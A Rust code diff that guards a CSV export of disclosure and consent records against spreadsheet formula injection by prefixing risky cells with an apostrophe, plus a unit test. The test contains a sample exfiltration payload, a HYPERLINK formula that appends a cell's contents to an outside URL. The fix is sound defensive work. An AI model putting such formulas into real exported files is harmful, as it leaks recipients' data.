@@ -213,6 +213,19 @@ pub const CSV_HEADER: [&str; 12] = [
     "notice",
 ];
 
+/// Free text as a CSV cell a spreadsheet shows as text: the member gets this file, and a cell
+/// starting with `=`, `+`, `-`, `@`, a tab or a carriage return would be run as a formula when
+/// opened in Excel or LibreOffice (`=HYPERLINK(...)` sending the sheet's contents away). Such a
+/// cell is prefixed with an apostrophe, which spreadsheets take as "text" (OWASP, CSV
+/// injection); the csv crate quotes but does not neutralise.
+fn spreadsheet_text(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
+    }
+}
+
 fn write_csv(records: &[DisclosureRecord], out: impl std::io::Write) -> anyhow::Result<()> {
     let mut writer = csv::Writer::from_writer(out);
     writer.write_record(CSV_HEADER)?;
@@ -220,19 +233,40 @@ fn write_csv(records: &[DisclosureRecord], out: impl std::io::Write) -> anyhow::
     for record in records {
         writer.write_record([
             record.disclosed_at.format(&Rfc3339)?,
-            record.recipient.clone(),
-            record.purpose.clone(),
-            record.description.clone(),
-            record.channel.clone(),
-            record.disclosed_by.clone(),
+            spreadsheet_text(&record.recipient),
+            spreadsheet_text(&record.purpose),
+            spreadsheet_text(&record.description),
+            spreadsheet_text(&record.channel),
+            spreadsheet_text(&record.disclosed_by),
             record.consent.id.to_string(),
             record.consent.kind.as_str().to_owned(),
-            record.consent.signed_by.clone(),
+            spreadsheet_text(&record.consent.signed_by),
             record.consent.in_force_at(now).to_string(),
             record.id.to_string(),
-            record.notice.clone(),
+            spreadsheet_text(&record.notice),
         ])?;
     }
     writer.flush()?;
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn free_text_that_a_spreadsheet_would_run_is_kept_as_text() {
+        for formula in [
+            "=HYPERLINK(\"http://x/?\"&B2,\"Dr Lee\")",
+            "+1+1",
+            "-2",
+            "@SUM(A1)",
+            "\tx",
+        ] {
+            assert_eq!(spreadsheet_text(formula), format!("'{formula}"));
+        }
+        for text in ["Harbor Step-Down Clinic", "secure fax", "e-mail", "1 = 1"] {
+            assert_eq!(spreadsheet_text(text), text);
+        }
+    }
 }
